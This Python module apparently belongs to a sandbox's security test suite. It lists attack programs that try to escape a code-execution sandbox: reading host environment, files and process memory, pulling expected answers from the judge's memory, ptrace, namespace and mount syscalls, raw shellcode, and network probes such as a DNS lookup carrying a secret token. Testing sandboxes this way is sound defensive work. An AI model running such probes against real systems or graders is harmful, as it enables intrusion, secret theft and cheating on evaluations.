"""Programs that want out of the box, or to see what is outside."""

from __future__ import annotations

from agent.sandbox.attacks.case import Attack, doors
from agent.sandbox.jobs import Tests

SECRET = Tests(
    code="import hashlib\ntext = attack()\nstarts = [i for i in range(len(text)) if text[i:].startswith('canary-')]\n"
    "assert any(hashlib.sha256(text[i:i + $LENGTH].encode()).hexdigest() == '$DIGEST' for i in starts)",
    entry="attack",
)
"""Passed by the program that found the canary. The tests know its hash alone: what a critique then
shows of it came out of the box."""

MARKED = Tests(code='assert f(1) == "expected-$SECRET"', entry="f", hidden=True)

_SEARCH = '''
def found(*attempts):
    """What all attempts bring to light, in one text."""
    out = []
    for attempt in attempts:
        try:
            out.append(attempt())
        except Exception:
            pass
    return "\\n".join(o.decode("latin-1") if isinstance(o, bytes) else str(o) for o in out)[:100_000]


def peek(pid, address=None):
    """Memory of another process."""
    class Vector(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
    buffer = ctypes.create_string_buffer(4096)
    mine, theirs = Vector(ctypes.addressof(buffer), 4096), Vector(address or id(SPOT), 4096)
    system($NR_process_vm_readv, pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)
    return buffer.raw


SPOT = object()
NEAR = [os.getppid(), os.getpid() - 1, os.getpid() - 2, 1, 2, $HOST]
'''


def _reads(name: str, program: str) -> Attack:
    return doors("read", name, _SEARCH + program, tests=SECRET)


def _escapes(name: str, program: str) -> Attack:
    return doors("escape", name, program)


def _calls(name: str, *calls: str) -> Attack:
    """A list of system calls, each of which must be refused."""
    tried = ",\n        ".join(f"lambda: system({call}) + 1" for call in calls)
    return doors("escape", name, f"def attack():\n    return first_open(\n        {tried})")


READING: list[Attack] = [
    _reads("the environment", "def attack():\n    return found(lambda: dict(os.environ), lambda: open('/proc/self/environ').read(),\n        lambda: open(f'/proc/{os.getppid()}/environ').read(), lambda: open('/proc/$HOST/environ').read())"),
    _reads("the environment as C keeps it", "def attack():\n    environ = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, 'environ')\n    out = []\n    while environ[len(out)]:\n        out.append(environ[len(out)])\n    return found(lambda: out)"),
    _reads("a file in the home folder", "def attack():\n    return found(lambda: open('$HOME_FILE').read(), lambda: open(os.path.expanduser('~/$HOME_NAME')).read())"),
    _reads("a file in the host's /tmp", "def attack():\n    return found(lambda: open('$TMP_FILE').read(), lambda: os.listdir('/tmp'))"),
    _reads("the names in the home folder", "def attack():\n    return found(lambda: os.listdir('$HOME'), lambda: os.listdir('/root'), lambda: list(os.walk('/home')))"),
    _reads("the command line of the host", "import glob\ndef attack():\n    return found(*[lambda p=p: open(p, 'rb').read() for p in glob.glob('/proc/*/cmdline')],\n        lambda: sys.argv + sys.orig_argv, lambda: open('/proc/$HOST/cmdline').read())"),
    _reads("memory of the host by /proc", "def attack():\n    def read():\n        with open('/proc/$HOST/mem', 'rb') as memory:\n            memory.seek($ADDRESS)\n            return memory.read(200)\n    return found(read)"),
    _reads("memory of the host by system call", "def attack():\n    return found(lambda: peek($HOST, $ADDRESS))"),
    _reads("files by a way round the root", "def attack():\n    ways = ['/proc/self/root', '/proc/1/root', '/proc/1/cwd', '/..', '/old', '/dev/fd/3/..', '/proc/self/fd/0/../..']\n    return found(*[lambda w=w: open(w + '$TMP_FILE').read() for w in ways])"),
    _reads("files by links", "def attack():\n    def link(make):\n        make('$TMP_FILE', '/tmp/link')\n        return open('/tmp/link').read()\n    return found(lambda: link(os.symlink), lambda: link(os.link))"),
    _reads("files by a handle", "def attack():\n    def read():\n        handle = ctypes.create_string_buffer(b'\\x80' + bytes(140))\n        mount = ctypes.c_int()\n        system($NR_name_to_handle_at, -100, ctypes.c_char_p(b'$TMP_FILE'), handle, ctypes.byref(mount), 0)\n        return os.read(system($NR_open_by_handle_at, -100, handle, 0), 200)\n    return found(read)"),
    _reads("files by openat2", "def attack():\n    how = (ctypes.c_uint64 * 3)(0, 0, 0)\n    def read():\n        return os.read(system($NR_openat2, -100, ctypes.c_char_p(b'$TMP_FILE'), how, 24), 200)\n    return found(read)"),
    _reads("every descriptor", "def attack():\n    return found(*[lambda n=n: (os.set_blocking(n, False), os.pread(n, 4096, 0)) for n in range(4096) if n != 3],\n        *[lambda n=n: os.listdir(n) for n in range(64)])"),
    _reads("everything in its own heap", "import gc\ndef attack():\n    def texts(thing):\n        inner = thing.values() if type(thing) is dict else thing if type(thing) in (list, tuple) else ()\n        return [t for t in inner if type(t) in (str, bytes) and 'canary-' in str(t)][0]\n    return found(*[lambda r=r: texts(r) for o in gc.get_objects() for r in (o, *gc.get_referents(o))])"),
    _reads("shared folders of the host", "def attack():\n    def read(folder):\n        return [open(f'{folder}/{n}').read() for n in os.listdir(folder) if 'canary' in n]\n    return found(*[lambda f=f: read(f) for f in ('/dev/shm', '/tmp', '/run', '/var/tmp', '.')])"),
    doors("read", "expected values in the memory of the judge",
          _SEARCH + "def f(x):\n    for pid in NEAR:\n        for path in (f'/proc/{pid}/mem', f'/proc/{pid}/maps', f'/proc/{pid}/environ'):\n            try:\n                return open(path).read()\n            except Exception:\n                pass\n        try:\n            return peek(pid)\n        except OSError:\n            pass\n", tests=MARKED),
    doors("read", "descriptors of others",
          "import array\n\ndef attack():\n    def taken():\n        os.set_blocking(3, False)\n        s = socket.socket(fileno=os.dup(3))\n        return s.recvmsg(100, socket.CMSG_SPACE(64))[1] or None\n    def fetched():\n        return system($NR_pidfd_getfd, system($NR_pidfd_open, os.getppid(), 0), 3, 0) + 1\n    def of_peer():\n        return system($NR_pidfd_getfd, int.from_bytes(socket.socket(fileno=os.dup(3)).getsockopt(1, 77, 4), 'little'), 0, 0) + 1\n    return first_open(taken, fetched, of_peer)"),
    doors("read", "the log and the counters of the kernel",
          "def attack():\n    buffer = ctypes.create_string_buffer(4096)\n    return first_open(lambda: system($NR_syslog, 3, buffer, 4096), lambda: system($NR_perf_event_open, buffer, 0, -1, -1, 0) + 1,\n        lambda: open('/proc/kallsyms').read(), lambda: open('/dev/kmsg').read(1), lambda: open('/dev/mem', 'rb').read(1),\n        lambda: open('/sys/kernel/notes', 'rb').read(1))"),
    doors("read", "the disk itself", "import stat\ndef attack():\n    def make(kind, major, minor):\n        os.mknod('/tmp/device', kind | 0o600, os.makedev(major, minor))\n        return open('/tmp/device', 'rb').read(16)\n    return first_open(lambda: make(stat.S_IFBLK, os.major(os.stat('/').st_dev), os.minor(os.stat('/').st_dev)), lambda: make(stat.S_IFBLK, 8, 0), lambda: make(stat.S_IFCHR, 1, 1),\n        lambda: open('/dev/vda', 'rb').read(16), lambda: open('/dev/sda', 'rb').read(16))"),
]  # fmt: skip

ESCAPING: list[Attack] = [
    _escapes("fork", "def attack():\n    pid = os.fork()\n    if pid == 0:\n        os._exit(0)\n    return 'open'"),
    _escapes("clone as a process", "def attack():\n    def cloned(flags):\n        pid = system($NR_clone, flags, 0, 0, 0, 0)\n        if pid == 0:\n            os._exit(0)\n        return pid\n    arguments = (ctypes.c_uint64 * 11)(0, 0, 0, 0, 17)\n    return first_open(lambda: cloned(17), lambda: cloned(0x10000000 | 17), lambda: cloned(0x40000000 | 17), lambda: system($NR_clone3, arguments, 88) or os._exit(0))"),
    _escapes("another program", "import subprocess\ndef attack():\n    return first_open(lambda: subprocess.run(['/bin/true']), lambda: os.posix_spawn('/bin/true', ['true'], {}),\n        lambda: os.system('true') == 0, lambda: system($NR_execve, ctypes.c_char_p(b'/nothing'), 0, 0) + 1 if ctypes.get_errno() != 2 else 1)"),
    _escapes("a process of the library", "import multiprocessing\ndef attack():\n    process = multiprocessing.get_context('fork').Process(target=abs, args=(1,))\n    process.start()\n    process.join()\n    return 'open'"),
    _escapes("kill its parent and its neighbours", "def attack():\n    me = os.getpid()\n    near = [os.getppid(), me - 1, me - 2, me + 1, $HOST]\n    return first_open(*[lambda p=p: os.kill(p, 0) or 'alive' for p in near])"),
    _escapes("kill by other calls", "import signal\ndef attack():\n    p = os.getppid()\n    info = ctypes.create_string_buffer(128)\n    return first_open(lambda: system($NR_tgkill, p, p, 0) + 1, lambda: system($NR_tkill, p, 0) + 1, lambda: system($NR_rt_sigqueueinfo, p, 10, info) + 1,\n        lambda: system($NR_rt_tgsigqueueinfo, p, p, 10, info) + 1, lambda: system($NR_pidfd_send_signal, system($NR_pidfd_open, p, 0), 0, 0, 0) + 1,\n        lambda: system($NR_kill, 0, 0) + 1, lambda: os.killpg(0, 0) or 'alive')"),
    _escapes("have the kernel send a signal", "import fcntl\n\ndef attack():\n    came = []\n    for pid in (os.getppid(), os.getpid() - 1, os.getpid() + 1, -os.getpgrp()):\n        a, b = socket.socketpair()\n        try:\n            fcntl.fcntl(a, 8, pid)\n            fcntl.fcntl(a, 10, 9)\n            fcntl.fcntl(a, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)\n            b.send(b'x')\n            came.append(pid)\n        except OSError:\n            pass\n    return 'open' if came else 'shut'"),
    _escapes("signals by timers and asynchronous input", "import fcntl\n\ndef attack():\n    event = ctypes.create_string_buffer(64)\n    timer = ctypes.c_int()\n    r, w = os.pipe()\n    return first_open(lambda: system($NR_timer_create, 0, event, ctypes.byref(timer)) + 1, lambda: fcntl.ioctl(r, 0x8901, (1).to_bytes(4, 'little')),\n        lambda: fcntl.ioctl(r, 0x5452, (1).to_bytes(4, 'little')), lambda: fcntl.fcntl(r, 15, bytes(8)))"),
    _escapes("trace its parent", "def attack():\n    return first_open(lambda: system($NR_ptrace, 16, os.getppid(), 0, 0) + 1, lambda: system($NR_ptrace, 0x4206, os.getppid(), 0, 0) + 1,\n        lambda: system($NR_ptrace, 0, 0, 0, 0) + 1, lambda: system($NR_kcmp, os.getpid(), os.getppid(), 0, 0, 0) + 1)"),
    _escapes("write the memory of others", "def attack():\n    vector = (ctypes.c_uint64 * 2)(id(attack), 8)\n    return first_open(lambda: system($NR_process_vm_writev, os.getppid(), vector, 1, vector, 1, 0), lambda: open(f'/proc/{os.getppid()}/mem', 'r+b'),\n        lambda: open('/proc/self/mem', 'r+b'), lambda: system($NR_process_madvise, 0, vector, 1, 4, 0) + 1)"),
    _calls("other namespaces", "$NR_unshare, 0x10000000", "$NR_unshare, 0x00020000", "$NR_unshare, 0x40000000", "$NR_setns, 0, 0", "$NR_clone3, 0, 0"),
    _calls("mounts", "$NR_mount, 0, ctypes.c_char_p(b'/tmp'), ctypes.c_char_p(b'tmpfs'), 0, 0", "$NR_umount2, ctypes.c_char_p(b'/tmp'), 2", "$NR_pivot_root, ctypes.c_char_p(b'/'), ctypes.c_char_p(b'/')",
           "$NR_open_tree, -100, ctypes.c_char_p(b'/'), 1", "$NR_fsopen, ctypes.c_char_p(b'tmpfs'), 0", "$NR_move_mount, 0, 0, 0, 0, 0", "$NR_mount_setattr, -100, ctypes.c_char_p(b'/'), 0, (ctypes.c_uint64 * 4)(0, 1, 0, 0), 32", "$NR_chroot, ctypes.c_char_p(b'/tmp')"),
    _calls("another user and its powers", "$NR_setuid, 0", "$NR_setresuid, 0, 0, 0", "$NR_capset, (ctypes.c_uint32 * 2)(0x20080522, 0), (ctypes.c_uint32 * 6)()", "$NR_personality, 0x0040000", "$NR_setsid"),
    _calls("its own leash", "$NR_prctl, 1, 0, 0, 0, 0", "$NR_prctl, 4, 1, 0, 0, 0", "$NR_prctl, 22, 0, 0, 0, 0", "$NR_prctl, 0x59616d61, -1, 0, 0, 0", "$NR_seccomp, 0, 0, 0", "$NR_prctl, 24, 0, 0, 0, 0", "$NR_landlock_create_ruleset, 0, 0, 1"),
    _calls("calls with a history of holes", "$NR_bpf, 0, ctypes.create_string_buffer(128), 128", "$NR_userfaultfd, 1", "$NR_io_uring_setup, 4, ctypes.create_string_buffer(128)", "$NR_keyctl, 0, -3, 1", "$NR_add_key, ctypes.c_char_p(b'user'), ctypes.c_char_p(b'k'), ctypes.c_char_p(b'v'), 1, -3",
           "$NR_request_key, ctypes.c_char_p(b'user'), ctypes.c_char_p(b'k'), 0, 0", "$NR_perf_event_open, ctypes.create_string_buffer(128), 0, -1, -1, 0", "$NR_vmsplice, 1, 0, 0, 0", "$NR_splice, 0, 0, 1, 0, 0, 0"),
    _calls("the machine", "$NR_reboot, 0, 0, 0, 0", "$NR_kexec_load, 0, 0, 0, 0", "$NR_init_module, 0, 0, 0", "$NR_finit_module, 0, 0, 0", "$NR_swapon, 0, 0", "$NR_clock_settime, 0, (ctypes.c_long * 2)(0, 0)", "$NR_sethostname, ctypes.c_char_p(b'x'), 1", "$NR_acct, 0", "$NR_quotactl, 0, 0, 0, 0", "$NR_vhangup"),
    _calls("memory outside its limits", "$NR_memfd_create, ctypes.c_char_p(b'x'), 0", "$NR_memfd_secret, 0", "$NR_shmget, 0, 4096, 0o1600", "$NR_msgget, 0, 0o1600", "$NR_semget, 0, 1, 0o1600", "$NR_mq_open, ctypes.c_char_p(b'x'), 0o102, 0o600, 0"),
    _calls("watching and waiting on others", "$NR_inotify_init1, 0", "$NR_fanotify_init, 0, 0", "$NR_signalfd4, -1, 0, 8, 0", "$NR_timerfd_create, 1, 0", "$NR_pidfd_open, 1, 0"),
    _calls("priority over others", "$NR_setpriority, 0, 0, -5", "$NR_setpriority, 1, 0, 19", "$NR_sched_setscheduler, 0, 1, (ctypes.c_int * 1)(1)", "$NR_sched_setaffinity, 0, 8, (ctypes.c_uint64 * 1)(1)", "$NR_migrate_pages, 0, 0, 0, 0"),
    _escapes("higher limits", "import resource\ndef attack():\n    def raised(what):\n        soft, hard = resource.getrlimit(what)\n        resource.setrlimit(what, (hard * 2 + 64, hard * 2 + 64))\n        return True\n    return first_open(*[lambda w=w: raised(w) for w in (resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_NOFILE, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE)],\n        lambda: system($NR_prlimit64, os.getppid(), 7, 0, (ctypes.c_uint64 * 2)()) + 1)"),
    *[_escapes(f"calls of {name}", "def attack():\n    if platform.machine() != 'x86_64':\n        return 'shut'\n    at = mapped(4096, protection=7)\n    code = bytes.fromhex('" + code + "')\n    ctypes.memmove(at, code, len(code))\n    return 'open' if ctypes.CFUNCTYPE(ctypes.c_long)(at)() >= 0 else 'shut'")
      for name, code in [("32 bits", "b818000000cd80c3"), ("x32", "b8660000400f05c3")]],
    _escapes("writing to what it is shown", "def attack():\n    def write(path):\n        with open(path, 'a') as f:\n            f.write('#')\n        return True\n    paths = [os.__file__, '/etc/ld.so.cache', '/usr/lib/x-$TOKEN', '/x-$TOKEN', '/box/inside/wire.py', '/dev/x-$TOKEN', '/dev/shm/x-$TOKEN', '/lib/x-$TOKEN', sys.executable]\n    return first_open(*[lambda p=p: write(p) for p in paths], lambda: os.utime('/', (0, 0)) or True, lambda: os.chmod(os.__file__, 0o777) or True)"),
    _escapes("a terminal", "import fcntl\ndef attack():\n    return first_open(lambda: os.open('/dev/tty', os.O_RDWR) + 1, lambda: os.open('/dev/ptmx', os.O_RDWR) + 1, lambda: os.openpty(), lambda: fcntl.ioctl(0, 0x5412, b'x'), lambda: fcntl.ioctl(1, 0x541C, b'\\3'))"),
    _escapes("a thread of another namespace", "def attack():\n    flags = 0x100 | 0x800 | 0x10000\n    return first_open(*[lambda f=f: system($NR_clone, flags | f, 0, 0, 0, 0) and True for f in (0x20000000, 0x00020000, 0x08000000, 0x40000000)])"),
    _escapes("a core file", "def attack():\n    import resource\n    try:\n        resource.setrlimit(resource.RLIMIT_CORE, (1 << 30, 1 << 30))\n        return 'open'\n    except (OSError, ValueError):\n        return 'open' if system($NR_prctl, 3, 0, 0, 0, 0) else 'shut'"),
]  # fmt: skip

NETWORK: list[Attack] = [
    doors("network", name, program)
    for name, program in [
        ("TCP to the host", "def attack():\n    return first_open(lambda: socket.create_connection(('127.0.0.1', $PORT), 0.5), lambda: socket.create_connection(('localhost', $PORT), 0.5),\n        lambda: socket.create_connection(('::1', $PORT), 0.5))"),
        ("UDP", "def attack():\n    def send(family, address):\n        return socket.socket(family, socket.SOCK_DGRAM).sendto(b'hello', address)\n    return first_open(lambda: send(socket.AF_INET, ('127.0.0.1', $PORT)), lambda: send(socket.AF_INET6, ('::1', $PORT)), lambda: send(socket.AF_INET, ('192.0.2.1', 53)))"),
        ("a name to look up", "def attack():\n    return first_open(lambda: socket.getaddrinfo('secret-$TOKEN.example.com', 80), lambda: socket.gethostbyname('example.com'))"),
        ("a library that connects", "import urllib.request\ndef attack():\n    return first_open(lambda: urllib.request.urlopen('http://127.0.0.1:$PORT/', timeout=0.5))"),
        ("an abstract socket of the host", "def attack():\n    def connect(kind):\n        s = socket.socket(socket.AF_UNIX, kind)\n        s.connect('\\0$ABSTRACT')\n        return s\n    return first_open(lambda: connect(socket.SOCK_STREAM), lambda: connect(socket.SOCK_DGRAM), lambda: connect(socket.SOCK_SEQPACKET))"),
        ("a pair turned into a connection", "def attack():\n    def turned(kind):\n        a, b = socket.socketpair(socket.AF_UNIX, kind)\n        return a.sendto(b'hello', '\\0$ABSTRACT')\n    def connected():\n        a, b = socket.socketpair()\n        return a.connect('\\0$ABSTRACT') is None\n    return first_open(lambda: turned(socket.SOCK_DGRAM), lambda: turned(socket.SOCK_SEQPACKET), lambda: turned(socket.SOCK_STREAM), connected)"),
        ("waiting for others to connect", "def attack():\n    def listen(family, address):\n        s = socket.socket(family)\n        s.bind(address)\n        s.listen()\n        return s\n    def paired():\n        a, b = socket.socketpair()\n        a.bind('\\0own-$TOKEN')\n        return True\n    return first_open(lambda: listen(socket.AF_INET, ('127.0.0.1', 0)), lambda: listen(socket.AF_UNIX, '\\0own-$TOKEN'), lambda: listen(socket.AF_UNIX, '/tmp/own-$TOKEN'), paired)"),
        ("sockets of the kernel", "def attack():\n    kinds = [(16, 3, 0), (17, 3, 3), (40, 1, 0), (38, 5, 0), (1, 1, 0), (31, 3, 1), (15, 3, 2), (2, 3, 1), (44, 3, 0)]\n    return first_open(*[lambda k=k: socket.socket(*k) for k in kinds], *[lambda f=f: system($NR_socket, f, 3, 0) + 1 for f in range(1, 46)])"),
        ("a descriptor handed to the judge", "import array\ndef attack():\n    s = socket.socket(fileno=os.dup(3))\n    return first_open(lambda: s.sendmsg([b''], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', [0] * 20))]) + 1, lambda: socket.send_fds(s, [b'\\0'], [0] * 20))"),
        ("the line to the judge turned elsewhere", "def attack():\n    return first_open(lambda: system($NR_connect, 3, ctypes.c_char_p(b'\\1\\0\\0$ABSTRACT'), 3 + len('$ABSTRACT')) + 1,\n        lambda: system($NR_bind, 3, ctypes.c_char_p(b'\\1\\0\\0own-$TOKEN'), 20) + 1, lambda: socket.socket(fileno=os.dup(3)).sendto(b'x', '\\0$ABSTRACT'))"),
    ]
]  # fmt: skip
